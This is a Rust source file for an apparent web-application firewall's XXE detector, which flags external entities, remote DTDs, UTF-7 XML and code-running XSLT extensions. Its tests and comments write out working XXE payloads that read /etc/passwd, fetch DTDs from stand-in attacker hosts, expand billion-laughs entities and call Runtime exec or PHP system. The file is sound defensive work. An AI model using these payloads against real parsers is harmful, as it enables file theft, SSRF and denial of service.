//! XML external entities: a document type that declares an entity with a SYSTEM or PUBLIC
//! identifier (file and network reads, SSRF, billion laughs through parameter entities), and
//! XInclude. Plain XML bodies and DOCTYPEs without entities stay clean. Also XSLT
//! stylesheets that bind a processor's code-running extension (see [`xslt_extension`]).

use crate::{find_ci, signal, Detector};
use palisade_normalize::classes as bc;
use palisade_normalize::Value;
use palisade_types::{Category, Signal};

pub struct Xxe;

/// Does the text after `<!ENTITY` declare one: a name (after `%` for a parameter entity),
/// then its value in quotes or a `SYSTEM`/`PUBLIC` identifier? `<!ENTITY declarations` in a
/// comment of an HTML parser's source, or a sentence about them, names the keyword and
/// declares nothing; its `>` may be a screen of code away.
fn declares_entity(rest: &str) -> bool {
    let r = rest.trim_start();
    let spaced = r.len() < rest.len();
    let r = match r.strip_prefix('%') {
        Some(p) => p.trim_start(),
        None if spaced => r,
        None => return false,
    };
    let name = r
        .find(|c: char| c.is_whitespace() || c == '>')
        .unwrap_or(r.len());
    let after = &r[name..];
    let value = after.trim_start();
    let starts_ci = |k: &str| {
        value
            .get(..k.len())
            .is_some_and(|v| v.eq_ignore_ascii_case(k))
    };
    name > 0
        && value.len() < after.len()
        && (value.starts_with(['"', '\'']) || starts_ci("system") || starts_ci("public"))
}

/// Does the text after a `%` name a parameter entity and end it with `;` (`%file;`)?
fn pe_reference(after: &str) -> bool {
    let name = after
        .bytes()
        .take_while(|&b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.' | b':'))
        .count();
    name > 0 && after.as_bytes().get(name) == Some(&b';')
}

impl Xxe {
    fn check(text: &str) -> Option<f32> {
        // Entities and XInclude both need a tag: one memchr rejects almost every value.
        if !text.as_bytes().contains(&b'<') {
            return None;
        }
        // A document type, its entities and the XML declaration come first in a document:
        // a parser given lines of text before them (a wiki page quoting an XXE example, a
        // DTD shown in a reST literal block, `> ` before each line of a reply) stops at
        // that text. Such a value is recorded, not blocked. A label on the payload's own
        // line (`test 64_1 <!DOCTYPE x[…`) still counts: a tool's or a test's prefix, not
        // a document around it. XInclude works anywhere in a fragment and keeps its weight.
        let at_start = markup_first(text);
        let prolog = |c: f32| if at_start { c } else { c.min(0.5) };
        // An internal entity whose text refers to no other entity (`<!ENTITY nbsp
        // "&#160;">`, `<!ENTITY product "Palisade">` in a note about DTDs) reads nothing and
        // expands once; entities built of entities are billion laughs.
        let mut from = 0;
        while let Some(at) = find_ci(&text[from..], "<!entity").map(|a| from + a) {
            from = at + 8;
            if !declares_entity(&text[at + 8..]) {
                continue;
            }
            let decl = &text[at..];
            let decl = &decl[..decl.find('>').unwrap_or(decl.len())];
            // A parameter entity's own `%` marks it; one in its value refers to another
            // (`"%file;"`, the out-of-band read's relay). A DTD's plain parameter entity
            // (`<!ENTITY % additional.inline.elements "">`, a hook for wrapper DTDs) is an
            // internal entity like the rest.
            // A reference is `%name;`: a `%` before anything else is the value's own text
            // (`'<!ENTITY e "[resolved: %s]">' % url`, Python formatting the DTD it serves).
            let body = decl[8..].trim_start();
            let body = body.strip_prefix('%').unwrap_or(body);
            if find_ci(decl, "system").is_some()
                || find_ci(decl, "public").is_some()
                || body
                    .match_indices('%')
                    .any(|(i, _)| pe_reference(&body[i + 1..]))
            {
                return Some(prolog(0.95));
            }
            let nested = decl
                .match_indices('&')
                .any(|(i, _)| decl.as_bytes().get(i + 1) != Some(&b'#'));
            if nested {
                return Some(prolog(0.75));
            }
        }
        if find_ci(text, "<xi:include").is_some() && find_ci(text, "href").is_some() {
            return Some(0.85);
        }
        // A document declared in UTF-7 (`<?xml version="1.0" encoding="UTF-7"?>` then
        // `+ADwAIQ-DOCTYPE …`): its markup is hidden from every filter that reads bytes, and
        // the parser decodes it back. No XML producer writes UTF-7.
        if let Some(at) = find_ci(text, "<?xml") {
            let decl = &text[at..];
            let decl = match decl.find("?>") {
                Some(end) => &decl[..end],
                None => crate::head(decl, 200),
            };
            let lower = decl.to_ascii_lowercase();
            let encoding = lower.split("encoding").nth(1).map(|r| {
                r.trim_start_matches(|c: char| c == '=' || c.is_whitespace())
                    .trim_start_matches(['"', '\''])
            });
            // Decisive: an XML body is several lines, a document to the registry.
            if encoding.is_some_and(|e| e.starts_with("utf-7") || e.starts_with("utf7")) {
                return Some(prolog(0.95));
            }
        }
        // An external DTD the parser fetches (`<!DOCTYPE x SYSTEM "http://attacker/x.dtd">`):
        // out-of-band XXE and SSRF without an entity in the document. Standards bodies'
        // DTDs (see [`standards_host`]) are what real documents name.
        if let Some(at) = find_ci(text, "<!doctype") {
            let decl = &text[at..];
            let decl = &decl[..decl.find(['>', '[']).unwrap_or(decl.len())];
            if let Some(sys) = find_ci(decl, " system") {
                let id = decl[sys + 7..].trim_start().trim_start_matches(['"', '\'']);
                let lower = id.to_ascii_lowercase();
                let local = ["file:", "jar:", "php:", "expect:", "netdoc:", "gopher:"]
                    .iter()
                    .any(|s| lower.starts_with(s));
                // A network-path reference (`//attacker/x.dtd`) takes the document's own
                // scheme; a UNC path (`\\attacker\share\x.dtd`) is SMB on Windows.
                let schemeless = lower.starts_with("//") || lower.starts_with("\\\\");
                let remote = lower.starts_with("http://")
                    || lower.starts_with("https://")
                    || lower.starts_with("ftp://")
                    || schemeless;
                let host = if schemeless {
                    &lower[2..]
                } else {
                    lower.split("://").nth(1).unwrap_or("")
                };
                let host = host.split(['/', ':', '\\']).next().unwrap_or("");
                let standard = standards_host(host);
                if local {
                    return Some(prolog(0.95));
                }
                if remote && !standard {
                    return Some(prolog(0.8));
                }
            }
        }
        // An external schema a validating parser fetches (`xsi:schemaLocation="http://a.b/
        // http://x.oob.example/a.xsd"`, an out-of-band probe's callback) is the same read.
        // Attribute names are case-sensitive: `schemaLocation`, `noNamespaceSchemaLocation`.
        if let Some(at) = text.find("chemaLocation") {
            let value = text[at + 13..].trim_start();
            if let Some(v) = value.strip_prefix('=') {
                let v = v.trim_start();
                let q = v.chars().next().filter(|&c| c == '"' || c == '\'');
                let v = &v[q.map_or(0, char::len_utf8)..];
                let v = &v[..v.find(|c| Some(c) == q || c == '>').unwrap_or(v.len())];
                // `schemaLocation` pairs each namespace with its schema's location; only
                // the locations are fetched (a WFS query's `http://www.opengis.net/wfs
                // ../wfs/1.0.0/WFS-basic.xsd`).
                let pairs = !text[..at].ends_with("noNamespaceS");
                let remote = v
                    .split_whitespace()
                    .skip(usize::from(pairs))
                    .step_by(1 + usize::from(pairs))
                    .any(|u| {
                        let lower = u.to_ascii_lowercase();
                        let host = lower
                            .strip_prefix("http://")
                            .or_else(|| lower.strip_prefix("https://"))
                            .or_else(|| lower.strip_prefix("//"));
                        host.is_some_and(|h| {
                            !standards_host(h.split(['/', ':', '?', '#']).next().unwrap_or(""))
                        })
                    });
                if remote {
                    return Some(prolog(0.8));
                }
            }
        }
        None
    }
}

/// Whether the value's markup starts on its first line (after white space and a byte-order
/// mark): a document a parser reads, not one quoted after lines of text.
fn markup_first(text: &str) -> bool {
    let head = text.trim_start_matches(|c: char| c.is_whitespace() || c == '\u{feff}');
    !head[..head.find('<').unwrap_or(0)].contains(['\n', '\r'])
}

/// Standards bodies' and frameworks' hosts, whose DTDs and schemas real documents name
/// (XHTML's, a Servlet descriptor's, a Maven POM's): a host that is one or ends in one.
fn standards_host(host: &str) -> bool {
    [
        "w3.org",
        "java.sun.com",
        "apache.org",
        "oasis-open.org",
        "jcp.org",
        "springframework.org",
        "hibernate.org",
        "mybatis.org",
    ]
    .iter()
    .any(|h| {
        host.strip_suffix(h)
            .is_some_and(|rest| rest.is_empty() || rest.ends_with('.'))
    })
}

/// A stylesheet that binds an XSLT processor's code-running extension and uses it: Xalan's
/// and Saxon's Java classes (`xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"`
/// then `rt:exec(…)`), PHP's registered functions (`xmlns:php="http://php.net/xsl"` then
/// `php:function('system', …)`), and MSXML's inline script (`<msxsl:script
/// language="C#">`). A server that transforms with a stylesheet a request sent runs what it
/// names. A namespace declared and never used (a vendor's stylesheet that keeps
/// `xmlns:java` for later) calls nothing.
fn xslt_extension(text: &str) -> Option<(Category, &'static str)> {
    let mut from = 0;
    while let Some(at) = text[from..].find("xmlns:").map(|a| from + a) {
        from = at + 6;
        let rest = &text[from..];
        let prefix = &rest[..rest
            .find(|c: char| !(c.is_alphanumeric() || matches!(c, '_' | '-' | '.')))
            .unwrap_or(rest.len())];
        if prefix.is_empty() {
            continue;
        }
        let Some(uri) = rest[prefix.len()..]
            .trim_start()
            .strip_prefix('=')
            .map(|v| v.trim_start().trim_start_matches(['"', '\'']))
        else {
            continue;
        };
        let uri = uri[..uri.find(['"', '\'']).unwrap_or(uri.len())].to_ascii_lowercase();
        let java = [
            "http://xml.apache.org/xalan/java",
            "http://xml.apache.org/xslt/java",
            "xalan://",
            "java:",
            "http://saxon.sf.net/java-type",
            "http://www.jclark.com/xt/java",
        ]
        .iter()
        .any(|u| uri.starts_with(u));
        // `prefix:name(`: a function of the extension called in an XPath expression.
        let called = || {
            text.match_indices(prefix).any(|(i, _)| {
                let before = text[..i].chars().next_back();
                let after = &text[i + prefix.len()..];
                !before.is_some_and(|c| c.is_alphanumeric() || matches!(c, '_' | '-' | '.' | ':'))
                    && after.strip_prefix(':').is_some_and(|f| {
                        let name = f
                            .find(|c: char| !(c.is_alphanumeric() || matches!(c, '_' | '-' | '.')))
                            .unwrap_or(f.len());
                        name > 0 && f[name..].trim_start().starts_with('(')
                    })
            })
        };
        if java && called() {
            return Some((Category::JavaInjection, "XSLT calls a Java extension"));
        }
        if uri == "http://php.net/xsl" && called() {
            return Some((Category::PhpInjection, "XSLT calls a PHP function"));
        }
        // XPath's own readers, given a local file (`document('/etc/passwd')`,
        // `unparsed-text('file:///c:/winnt/win.ini')`) in a stylesheet: a file read. A
        // stylesheet's own documents are relative (`document('labels.xml')`, `document('')`).
        if uri == "http://www.w3.org/1999/xsl/transform" && reads_local_file(text) {
            return Some((Category::Lfi, "XSLT reads a local file"));
        }
        if uri == "urn:schemas-microsoft-com:xslt" && text.contains(&format!("<{prefix}:script")) {
            return Some((Category::Rce, "XSLT carries an inline script"));
        }
    }
    None
}

/// Whether an XPath `document(…)`, `doc(…)` or `unparsed-text(…)` call in `text` is given a
/// literal local file: a `file:` URL, an absolute path, a drive letter or a UNC path.
fn reads_local_file(text: &str) -> bool {
    ["document(", "doc(", "unparsed-text("].iter().any(|f| {
        text.match_indices(f).any(|(i, _)| {
            let name_start = !text[..i]
                .chars()
                .next_back()
                .is_some_and(|c| c.is_alphanumeric() || matches!(c, '-' | '_' | ':' | '.'));
            let arg = text[i + f.len()..].trim_start();
            let Some(arg) = arg
                .strip_prefix('\'')
                .or_else(|| arg.strip_prefix('"'))
                .or_else(|| arg.strip_prefix("&apos;"))
                .or_else(|| arg.strip_prefix("&quot;"))
            else {
                return false;
            };
            let b = arg.as_bytes();
            let drive = b.len() > 2
                && b[0].is_ascii_alphabetic()
                && b[1] == b':'
                && matches!(b[2], b'/' | b'\\');
            name_start
                && (arg
                    .get(..5)
                    .is_some_and(|p| p.eq_ignore_ascii_case("file:"))
                    || arg.starts_with('/')
                    || arg.starts_with("\\\\")
                    || drive)
        })
    })
}

impl Detector for Xxe {
    fn name(&self) -> &'static str {
        "xxe"
    }

    fn inspect(&self, value: &Value, out: &mut Vec<Signal>) {
        if !value.classes.any(bc::LT) {
            return;
        }
        if let Some(c) = Xxe::check(value.text()) {
            out.push(signal(
                "xxe",
                Category::Xxe,
                c,
                value,
                value.text(),
                "external entity or DTD",
            ));
        }
        if value.text().contains("xmlns:") {
            if let Some((category, why)) = xslt_extension(value.text()) {
                // As for a DTD: a stylesheet quoted after lines of text (a library's README
                // showing the attack) is no stylesheet a processor reads. Recorded.
                let c = if markup_first(value.text()) {
                    0.95
                } else {
                    0.5
                };
                out.push(signal("xxe", category, c, value, value.text(), why));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(s: &str) -> bool {
        crate::hits(&Xxe, s)
    }

    #[test]
    fn external_entities_are_caught() {
        for s in [
            "<!DOCTYPE x[<!ENTITY x SYSTEM \"http://html5sec.org/test.xxe\">]><y>&x;</y>",
            "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
            "<!DOCTYPE r [<!ENTITY % remote PUBLIC \"x\" \"http://evil.example/x.dtd\"> %remote;]>",
            "<root xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></root>",
            // An external DTD fetched from anywhere (session 15, held-out XXE set).
            "<?xml version=\"1.0\"?><!DOCTYPE x SYSTEM \"http://attacker.example/x.dtd\"><x>1</x>",
            "<!DOCTYPE x SYSTEM \"file:///etc/passwd\"><x/>",
            // A network-path or UNC reference to the DTD (GoTestWAF xml-injection, session 24).
            "<!DOCTYPE x SYSTEM \"//x/x\"><x>a</x>",
            "<!DOCTYPE x SYSTEM \"\\\\attacker\\share\\x.dtd\"><x>a</x>",
            // A document declared in UTF-7 hides its markup (GoTestWAF community-xxe, session 24).
            "<?xml version=\"1.0\" encoding=\"UTF-7\"?>\n+ADwAIQ-DOCTYPE foo+AFs +ADwAIQ-ELEMENT foo ANY +AD4",
            "<?xml version='1.0' encoding = 'utf-7' ?><x/>",
            // Entities built of entities: billion laughs (session 21).
            "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol1 \"&lol;&lol;&lol;&lol;\">]><lolz>&lol1;</lolz>",
            // Declarations spaced or glued as parsers still take them (session 26).
            "<!DOCTYPE r [<!ENTITY%remote SYSTEM \"http://evil.example/x.dtd\">%remote;]>",
            "<!DOCTYPE r [<!ENTITY\n  xxe\n  SYSTEM 'file:///etc/passwd'>]><r>&xxe;</r>",
        ] {
            assert!(hit(s), "missed: {s}");
        }
    }

    #[test]
    fn plain_xml_stays_clean() {
        for s in [
            "<?xml version=\"1.0\"?><order><id>7</id></order>",
            "<!DOCTYPE html><html><body>hi</body></html>",
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html/>",
            "<!DOCTYPE web-app SYSTEM \"http://java.sun.com/dtd/web-app_2_3.dtd\"><web-app/>",
            "<!DOCTYPE mapper PUBLIC \"-//mybatis.org//DTD Mapper 3.0//EN\" \"https://mybatis.org/dtd/mybatis-3-mapper.dtd\"><mapper/>",
            "the include directive is documented",
            // Other encodings, and UTF-7 named outside a declaration (session 24).
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?><note>UTF-7 is not allowed here</note>",
            "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><x>1</x>",
            // A relative DTD file next to the document (session 24).
            "<!DOCTYPE note SYSTEM \"Note.dtd\"><note/>",
            "<!DOCTYPE html SYSTEM \"about:legacy-compat\"><html/>",
            // An internal entity of plain text or character references (session 21).
            "<!ENTITY nbsp \"&#160;\"> is declared in the DTD",
            "<!DOCTYPE doc [<!ENTITY product \"Palisade\">]><doc>&product;</doc>",
            // The keyword named in a parser's comment, its `>` a screen of code away
            // (CPython's `_markupbase.py`, long-document set 72, session 26).
            "    # Internal -- scan past <!ENTITY declarations\n    def _parse_doctype_entity(self, i):\n        if rawdata[i:i+1] == \"%\":\n            j = i + 1\n        return j > 0",
        ] {
            assert!(!hit(s), "false positive: {s}");
        }
    }
}
